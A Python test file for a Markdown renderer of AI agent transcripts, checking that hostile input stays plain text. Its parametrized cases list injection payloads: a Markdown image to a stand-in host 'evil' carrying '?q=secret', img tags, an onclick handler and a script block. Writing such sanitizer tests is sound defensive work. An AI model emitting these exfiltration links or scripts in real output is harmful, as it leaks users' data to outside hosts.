from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nbagent.render.embedded_markdown import safe_markdown
from nbagent.render.fenced import code_span, fenced
from nbagent.render.markdown_document import transcript_to_markdown
from nbagent.transcript.items import MessageItem, ToolCallItem, Transcript
from tests.render.sample_transcript import WORDS, hostile_transcript, sample_transcript


def parse(source: str) -> list[Any]:
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(source)


def kinds(tokens: list[Any]) -> set[str]:
    return {token.type for token in tokens} | {
        kind for token in tokens for kind in kinds(token.children or [])
    }


def document(*texts: str) -> str:
    items = [
        MessageItem(id=str(number), source=f"agent_{number}", parts=(text,))
        for number, text in enumerate(texts)
    ]
    return transcript_to_markdown(Transcript(items=list(items), state="done"))


def test_all_that_happened_is_there() -> None:
    text = transcript_to_markdown(sample_transcript())
    plain = text.replace("**", "").replace("\\", "")

    assert [words for words in WORDS if words.replace("\\", "") not in plain] == []


def test_it_reads_like_a_document() -> None:
    source = document("Hello **you**", "- [x] done")

    assert source == (
        "#### agent_0\n\nHello **you**\n\n---\n\n#### agent_1\n\n- [x] done\n\n---\n\n_Done_\n"
    )


def test_nothing_hostile_becomes_markup() -> None:
    source = transcript_to_markdown(hostile_transcript())

    assert not kinds(parse(source)) & {"html_block", "html_inline", "image"}
    assert "\u202e" not in source
    assert "\x1b" not in source


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil/?q=secret)",
        "![x][1]\n\n[1]: http://evil/",
        "[![x](http://evil/)](http://evil/)",
        "\\\\![x](http://evil/)",
        "> - ![x](http://evil/)",
        "| a |\n|---|\n| ![x](http://evil/) |",
        "<img src=http://evil/>",
        "<img\nsrc=http://evil/>",
        "`code` <b onclick=x>b</b>",
        "<!-- hidden",
        "<script>\nalert(1)\n\n</script>",
        "<?php\n\nx",
        "<![CDATA[\n\nx",
        "    indented\n\n<div>\n\n![x](http://evil/)",
        "<a\n\n<b>![x](y)",
    ],
)
def test_html_and_remote_pictures_are_only_text(text: str) -> None:
    source = safe_markdown(text)

    assert not kinds(parse(f"before\n\n{source}\n\nafter")) & {"html_block", "html_inline", "image"}


@given(
    st.lists(
        st.sampled_from(
            [
                *["<", ">", "!", "[", "]", "(u)", "`", "\\", "\n", "\n\n", "    ", "> ", "- ", "*"],
                *["a", "<b>", "</b>", "<!--", "-->", "|", "|-|\n", "~~~", "```", "[x]: u\n", "\t"],
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_whatever_is_said_it_stays_text_and_ends(text: str) -> None:
    source = safe_markdown(text)
    tokens = parse(f"before\n\n{source}\n\n# after")

    assert not kinds(tokens) & {"html_block", "html_inline", "image"}
    assert [token.content for token in tokens[-3:]] == ["", "after", ""]
    assert tokens[-2].level == 1


@pytest.mark.parametrize(
    "text",
    [
        "Use `List<String>` and `a ![b](c)`.",
        "```html\n<b>![x](y)</b>\n```",
        "    <b>",
        "1 < 2 and <https://example.org>",
        "$x < y$ and 5 <6",
    ],
)
def test_harmless_markdown_stays_as_it_is(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize("opening", ["```python\nx = 1", "~~~\nx", "`````\n```\nx"])
def test_an_open_fence_ends_with_its_message(opening: str) -> None:
    tokens = parse(document(opening, "second"))

    assert [t.content for t in tokens if t.type == "inline"][-3:] == ["agent_1", "second", "_Done_"]


@given(st.text(alphabet="`~ab \n", max_size=40))
def test_nothing_breaks_out_of_a_fence(text: str) -> None:
    tokens = parse(f"{fenced(text, 'text')}\n\nafter")

    assert [token.type for token in tokens] == [
        "fence",
        "paragraph_open",
        "inline",
        "paragraph_close",
    ]
    assert tokens[0].content == f"{text}\n"


@given(st.text(alphabet="`ab *", min_size=1, max_size=20))
def test_nothing_breaks_out_of_a_code_span(text: str) -> None:
    tokens = parse(f"x {code_span(text)} y")

    assert [token.type for token in tokens[1].children] == ["text", "code_inline", "text"]


def test_a_tool_result_full_of_fences_stays_inside_one() -> None:
    item = ToolCallItem(
        id="1",
        source="a",
        call_id="c",
        name="`x`",
        arguments="",
        result="```\n# no heading\n````\n",
        state="done",
    )
    tokens = parse(transcript_to_markdown(Transcript(items=[item], state="done")))

    assert [t.content for t in tokens if t.type == "fence"] == ["```\n# no heading\n````\n"]
    assert len([t for t in tokens if t.type == "heading_open"]) == 1
    assert "`x`" in [child.content for token in tokens for child in _children(token)]


def _children(token: Any) -> list[Any]:
    return token.children or []
